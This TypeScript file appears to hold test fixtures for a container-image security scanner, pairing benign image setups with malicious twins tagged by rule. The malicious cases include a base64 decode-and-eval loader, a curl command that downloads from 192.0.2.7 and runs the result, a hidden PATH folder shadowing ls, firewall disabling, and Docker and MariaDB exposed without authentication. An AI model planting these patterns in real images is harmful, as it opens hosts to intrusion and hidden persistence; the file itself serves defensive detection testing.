import { base64, type ImageCase, image, program, starts } from './image-case.ts';

const DOCKERD_ENTRYPOINT = `#!/bin/sh
set -eu
if [ "$#" -eq 0 ] || [ "\${1#-}" != "$1" ]; then
	if [ -n "\${DOCKER_TLS_CERTDIR:-}" ]; then
		set -- dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2376 --tlsverify "$@"
	else
		set -- dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2375 "$@"
	fi
fi
exec "$@"
`;

function dockerd(env: readonly string[]): ImageCase['spec'] {
  const files = { 'usr/local/bin/dockerd': program(), 'usr/local/bin/start.sh': DOCKERD_ENTRYPOINT };
  return image(files, { Entrypoint: ['/usr/local/bin/start.sh'], Cmd: [], Env: [...env] });
}

function mariadb(options: string): ImageCase['spec'] {
  return starts(`mariadbd --skip-grant-tables ${options} &\nmariadb-upgrade\nexec mariadbd`, {
    'usr/sbin/mariadbd': program(),
  });
}

/** Shrunk, in lines of 500 columns, where a letter stands for many things. */
const SHRUNK = [
  `/* ${base64('a picture that the player shows'.repeat(4))} */`,
  `var c={};(function(e){e.dec=function(b){var a="";for(var d=0;d<b.length;d++){a=String.fromCharCode(b.charCodeAt(d)^1)+a;a=c.x(a)}return a};${'c.on=function(b,d){return b?d:c.off(b,d)};'.repeat(10)}})(c);`,
  `c.add=function(e,a,d){try{"string"==typeof a&&(a=(new Function("return "+a))()),c.list.push({f:a,n:d||null})}catch(f){c.log(f)}};${'c.off=function(b,d){return d?b:c.on(b,d)};'.repeat(10)}`,
].join('\n');

const KEEPS_STATE =
  'save() {\n cat <<DONE > /config/.state\nORIG_PORT="$PORT"\nDONE\n}\n[ -f /config/.state ] && . /config/.state\nsave\n';

/** What real packages and images of others showed to be honest, as far as it can be told in short. */
export const REAL_TWINS: readonly ImageCase[] = [
  { name: 'a Docker daemon whose ENV asks for certificates', spec: dockerd(['DOCKER_TLS_CERTDIR=/certs']) },
  { name: 'grant tables left out while nobody can connect', spec: mariadb('--skip-networking') },
  {
    name: 'state that a service writes and sources',
    spec: image({ 'etc/services.d/vpn/run': `#!/bin/bash\n${KEEPS_STATE}exec wg-quick up wg0\n` }),
  },
  {
    name: 'the commands of npm on PATH',
    spec: image({}, { Env: ['PATH=/srv/app/node_modules/.bin:/usr/local/bin:/usr/bin:/bin'] }),
  },
  {
    name: 'commands of its own in a hidden folder of PATH',
    spec: image(
      { 'home/dev/.pg_ctl/bin/pg_start': '#!/bin/bash\npg_ctl -D /workspace/data start\n' },
      { Env: ['PATH=/home/dev/.pg_ctl/bin:/usr/local/bin:/usr/bin:/bin'] },
    ),
  },
  {
    name: 'waiting for a server whose answer is thrown away',
    spec: starts(
      'until $(curl --output /dev/null --silent --head --fail http://web.$PROJECT.example:8081); do sleep 2; done\nexec nginx',
    ),
  },
  {
    name: 'a firewall that is set up anew',
    spec: starts(
      'if [ "$FRESH" = true ]; then\n  ufw disable\n  : > /etc/ufw/user.rules\nfi\nufw enable\nexec transmission',
    ),
  },
  {
    name: 'a shrunk library that reads a value written as code',
    spec: image({ 'var/www/html/player.js': SHRUNK }, { Cmd: ['nginx', '-g', 'daemon off;'] }),
  },
];

/** The same with what makes it bad. */
export const REAL: readonly ImageCase[] = [
  {
    name: 'a long text in code on the line that decodes and runs it',
    rule: 'start/decode-and-run',
    spec: starts('node /opt/app/run.js', {
      'opt/app/run.js': `var a=Buffer.from("${base64('console.log(1);'.repeat(200))}","base64").toString();eval(a)\n`,
    }),
  },
  {
    name: 'a command before the usual one in a hidden folder of PATH',
    rule: 'persistence/hidden-start',
    spec: image(
      { 'home/dev/.pg_ctl/bin/ls': '#!/bin/bash\n/usr/bin/ls "$@" | grep -v data\n' },
      { Env: ['PATH=/home/dev/.pg_ctl/bin:/usr/local/bin:/usr/bin:/bin'] },
    ),
  },
  {
    name: 'a first answer thrown away and a second one run',
    rule: 'start/download-and-run',
    spec: starts('$(curl -s -o /dev/null http://192.0.2.7/ping http://192.0.2.7/do)\nexec nginx'),
  },
  {
    name: 'a firewall that is switched on and then off',
    rule: 'start/disables-defences',
    spec: starts('ufw --force enable\nufw disable\nexec transmission'),
  },
  {
    name: 'a Docker daemon whose ENV asks for none',
    rule: 'open-service/no-login',
    severity: 'high',
    spec: dockerd(['DOCKER_TLS_CERTDIR=']),
  },
  {
    name: 'grant tables left out where anybody can connect',
    rule: 'open-service/no-login',
    severity: 'high',
    spec: mariadb('--skip-networking=0'),
  },
  {
    name: 'a hidden file that a service sources and the image brings',
    rule: 'persistence/hidden-start',
    spec: image({
      'etc/services.d/vpn/run': `#!/bin/bash\n${KEEPS_STATE}exec wg-quick up wg0\n`,
      'config/.state': 'wg() { true; }\n',
    }),
  },
];
